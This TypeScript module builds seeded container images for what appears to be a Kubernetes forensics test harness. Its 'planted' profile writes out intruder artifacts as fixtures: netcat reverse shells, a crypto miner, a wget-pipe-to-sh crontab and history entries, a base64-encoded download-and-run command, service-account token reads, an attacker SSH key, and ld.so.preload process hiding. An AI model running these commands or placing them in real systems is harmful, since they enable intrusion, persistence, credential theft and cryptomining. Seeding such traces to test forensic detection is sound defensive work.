import { busyboxBase, file, type Tree } from '../rootfs.js';
import { intrusionTraces, withTraces } from './intrusion-traces.js';
import { deepNamesFiles } from './unstorable.js';

/** What a seeded container is: its files, its main process, its environment and its log. */
export interface ContainerImage {
  readonly tree: Tree;
  /** argv of the main process, inside the container. */
  readonly entrypoint: readonly string[];
  readonly env: Readonly<Record<string, string>>;
  readonly logLines: readonly string[];
  /** Distroless images have no shell; the main process is a static binary. */
  readonly shell: boolean;
}

export interface ContainerContext {
  readonly namespace: string;
  readonly pod: string;
  readonly container: string;
  readonly serviceAccountToken: string;
  readonly caCertificate: string;
  readonly applets: readonly string[];
  /** A static program (gatehouse-pod) that sleeps, optionally listening; stands in for app binaries. */
  readonly appBinary: string;
  readonly now: Date;
}

export type ProfileName =
  | 'shell'
  | 'web'
  | 'api'
  | 'worker'
  | 'sidecar'
  | 'system'
  | 'distroless'
  | 'planted'
  | 'deep-names';

const imageBuilt = new Date('2026-09-14T08:21:00Z');
const minutesAgo = (now: Date, minutes: number) => new Date(now.getTime() - minutes * 60_000);
const defaultPath = '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin';

function serviceAccountFiles(context: ContainerContext): Tree {
  const dir = 'var/run/secrets/kubernetes.io/serviceaccount';
  return {
    [`${dir}/token`]: file(context.serviceAccountToken),
    [`${dir}/ca.crt`]: file(context.caCertificate),
    [`${dir}/namespace`]: file(context.namespace),
  };
}

function etcFiles(context: ContainerContext, extraUsers = ''): Tree {
  return {
    'etc/passwd': file(
      `root:x:0:0:root:/root:/bin/sh\nbin:x:1:1:bin:/bin:/sbin/nologin\ndaemon:x:2:2:daemon:/sbin:/sbin/nologin\nnobody:x:65534:65534:nobody:/:/sbin/nologin\napp:x:1000:1000:app:/home/app:/bin/sh\n${extraUsers}`,
      { mtime: imageBuilt },
    ),
    'etc/group': file('root:x:0:\nbin:x:1:\ndaemon:x:2:\nnogroup:x:65534:\napp:x:1000:\n', {
      mtime: imageBuilt,
    }),
    'etc/shadow': file(
      'root:$6$Zk3p$3vO1rV0pJm2bX0yQ9lQm1d6mQv5sE0Cq4b1m3H0aX2v:20345:0:::::\napp:!:20345:0:99999:7:::\n',
      {
        mode: 0o640,
        mtime: imageBuilt,
      },
    ),
    'etc/hostname': file(`${context.pod}\n`),
    'etc/hosts': file(
      `127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n10.0.0.12\t${context.pod}\n`,
    ),
    'etc/resolv.conf': file(
      `search ${context.namespace}.svc.cluster.local svc.cluster.local cluster.local\nnameserver 10.96.0.10\noptions ndots:5\n`,
    ),
    'etc/os-release': file(
      'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.20.3\nPRETTY_NAME="Alpine Linux v3.20"\n',
      { mtime: imageBuilt },
    ),
    'etc/crontabs/root': file(
      '# min\thour\tday\tmonth\tweekday\tcommand\n*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n0\t2\t*\t*\t*\trun-parts /etc/periodic/daily\n',
      { mode: 0o600, mtime: imageBuilt },
    ),
    'lib/apk/db/installed': file(
      'P:musl\nV:1.2.5-r0\nA:x86_64\nT:the musl c library\n\nP:busybox\nV:1.36.1-r29\nA:x86_64\nT:Size optimized toolbox of many common UNIX utilities\n\nP:ca-certificates-bundle\nV:20240705-r0\nA:x86_64\nT:Pre generated bundle of Mozilla certificates\n\n',
      { mtime: imageBuilt },
    ),
    'root/.ash_history': file('ls -la /app\ncat /etc/os-release\nps aux\nexit\n', {
      mode: 0o600,
      mtime: minutesAgo(context.now, 600),
    }),
    'home/app/.ash_history': file('cd /app\n./healthcheck\ntail -n 50 /var/log/app/app.log\n', {
      mode: 0o600,
      mtime: minutesAgo(context.now, 300),
    }),
    'var/log/app/app.log': file(appLog(context.now, context.pod), { mtime: minutesAgo(context.now, 1) }),
    'var/log/messages': file(
      `${isoMinutesAgo(context.now, 90)} ${context.pod} syslog.info syslogd started: BusyBox v1.36.1\n`,
    ),
    'tmp/app.pid': file('1\n'),
  };
}

function isoMinutesAgo(now: Date, minutes: number): string {
  return minutesAgo(now, minutes).toISOString();
}

function appLog(now: Date, pod: string): string {
  return [90, 60, 30, 5]
    .map((minutes) => `${isoMinutesAgo(now, minutes)} INFO ${pod} handled health check status=200\n`)
    .join('');
}

function entrypointScript(body: string): Tree {
  return {
    'docker-entrypoint.sh': file(`#!/bin/sh\nhostname "$HOSTNAME"\nip link set lo up\n${body}\n`, {
      mode: 0o755,
      mtime: imageBuilt,
    }),
  };
}

function shellImage(
  context: ContainerContext,
  body: string,
  extra: Tree = {},
  env: Record<string, string> = {},
): ContainerImage {
  return {
    tree: {
      ...busyboxBase(context.applets),
      ...etcFiles(context),
      ...serviceAccountFiles(context),
      ...entrypointScript(body),
      ...extra,
    },
    entrypoint: ['/bin/sh', '/docker-entrypoint.sh'],
    env: { PATH: defaultPath, HOSTNAME: context.pod, HOME: '/root', ...env },
    logLines: [`starting ${context.container}`, `${context.container} ready`],
    shell: true,
  };
}

function distrolessImage(context: ContainerContext): ContainerImage {
  return {
    tree: {
      'etc/passwd': file(
        'root:x:0:0:root:/root:/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/sbin/nologin\nnonroot:x:65532:65532:nonroot:/home/nonroot:/sbin/nologin\n',
        { mtime: imageBuilt },
      ),
      'etc/group': file('root:x:0:\nnobody:x:65534:\nnonroot:x:65532:\n', { mtime: imageBuilt }),
      'etc/os-release': file(
        'PRETTY_NAME="Distroless"\nNAME="Debian GNU/Linux"\nID="debian"\nVERSION_ID="12"\n',
        { mtime: imageBuilt },
      ),
      'var/lib/dpkg/status.d/base-files': file(
        'Package: base-files\nVersion: 12.4+deb12u9\nArchitecture: amd64\n',
        { mtime: imageBuilt },
      ),
      'var/lib/dpkg/status.d/tzdata': file('Package: tzdata\nVersion: 2024b-0+deb12u1\nArchitecture: all\n', {
        mtime: imageBuilt,
      }),
      'app/server': { kind: 'copy', from: context.appBinary, mode: 0o755, mtime: imageBuilt },
      ...serviceAccountFiles(context),
    },
    entrypoint: ['/app/server', `--hostname=${context.pod}`, '--listen=:8443'],
    env: {
      PATH: defaultPath,
      HOSTNAME: context.pod,
      HOME: '/home/nonroot',
      SIGNING_KEY_PATH: '/var/run/keys/signing.pem',
    },
    logLines: ['{"level":"info","msg":"token signer listening","addr":":8443"}'],
    shell: false,
  };
}

/**
 * The planted pod: what an intruder leaves behind, for the forensics tests to find. A deleted
 * binary listening on 4444 with a reverse shell connected to it, a miner running from /dev/shm,
 * a SUID shell in /tmp, ld.so.preload, a malicious crontab, a poisoned history and an SSH key;
 * plus one trace per further family (webshell, root account, metadata and token use, profile
 * persistence, dropped tool, hidden directory: see intrusion-traces.ts).
 */
function plantedImage(context: ContainerContext): ContainerImage {
  const planted = minutesAgo(context.now, 20);
  const body = [
    'httpd -p 8080 -h /var/www',
    'cp /usr/local/bin/php-fpm-status /tmp/.ksoftirqd && /tmp/.ksoftirqd --listen=127.0.0.1:4444 &',
    'sleep 1; rm -f /tmp/.ksoftirqd',
    'nc 127.0.0.1 4444 -e /bin/sh &',
    'mkdir -p /dev/shm/.x && cp /usr/local/bin/php-fpm-status /dev/shm/.x/xmrig && chmod 755 /dev/shm/.x/xmrig',
    '/dev/shm/.x/xmrig --url=stratum+tcp://pool.supportxmr.example:3333 --user=44AFFq5kSiGBoZ --donate-level=1 &',
    'exec sleep 2147483647',
  ].join('\n');
  const extra: Tree = {
    'usr/local/bin/php-fpm-status': { kind: 'copy', from: context.appBinary, mode: 0o755, mtime: imageBuilt },
    'var/www/index.html': file('<html><body>cart</body></html>\n', { mtime: imageBuilt }),
    'tmp/.bash': { kind: 'copy', from: '/bin/busybox', mode: 0o4755, mtime: planted },
    'etc/ld.so.preload': file('/usr/lib/libprocesshider.so\n', { mtime: planted }),
    'usr/lib/libprocesshider.so': file(Buffer.from('\x7fELF-planted-test-library\n'), {
      mode: 0o755,
      mtime: planted,
    }),
    'etc/crontabs/root': file('*/5 * * * * wget -q -O- http://203.0.113.77/c.sh | sh\n', {
      mode: 0o600,
      mtime: planted,
    }),
    'root/.ssh/authorized_keys': file(
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker@kali\n',
      {
        mode: 0o600,
        mtime: planted,
      },
    ),
    'root/.ash_history': file(
      [
        'id',
        'uname -a',
        'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
        'wget -q -O- http://203.0.113.77/x.sh | sh',
        'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjc3L20gfCBzaAo= | base64 -d | sh',
        'nc 203.0.113.77 4444 -e /bin/sh',
        'chmod u+s /tmp/.bash',
        'history -c',
        '',
      ].join('\n'),
      { mode: 0o600, mtime: planted },
    ),
  };
  const image = shellImage(context, body, extra, {
    PHP_FPM_PM: 'dynamic',
    APP_SECRET: 'planted-secret-value',
  });
  return { ...image, tree: withTraces(image.tree, intrusionTraces, planted) };
}

/** The image of one seeded container, by profile. */
export function imageFor(profile: ProfileName, context: ContainerContext): ContainerImage {
  switch (profile) {
    case 'shell':
      return shellImage(context, 'exec sleep 2147483647');
    case 'web':
      return shellImage(
        context,
        'mkdir -p /var/www && echo ok > /var/www/index.html\nhttpd -p 8080 -h /var/www\nexec sleep 2147483647',
      );
    case 'api':
      return shellImage(
        context,
        'exec /app/api --listen=:8080',
        { 'app/api': { kind: 'copy', from: context.appBinary, mode: 0o755, mtime: imageBuilt } },
        {
          DATABASE_URL: 'postgres://payments@db.payments.svc:5432/payments',
          DATABASE_PASSWORD: 'seeded-secret-do-not-log',
        },
      );
    case 'worker':
      return shellImage(context, 'crond -b -c /etc/crontabs\nexec sleep 2147483647');
    case 'sidecar':
      return shellImage(context, 'exec tail -F /var/log/app/app.log');
    case 'system':
      return shellImage(context, `exec /usr/local/bin/${context.container} --listen=:9153`, {
        [`usr/local/bin/${context.container}`]: {
          kind: 'copy',
          from: context.appBinary,
          mode: 0o755,
          mtime: imageBuilt,
        },
      });
    case 'distroless':
      return distrolessImage(context);
    case 'planted':
      return plantedImage(context);
    case 'deep-names':
      return shellImage(context, 'exec sleep 2147483647', deepNamesFiles());
    default: {
      const unreachable: never = profile;
      throw new Error(`unknown profile ${String(unreachable)}`);
    }
  }
}
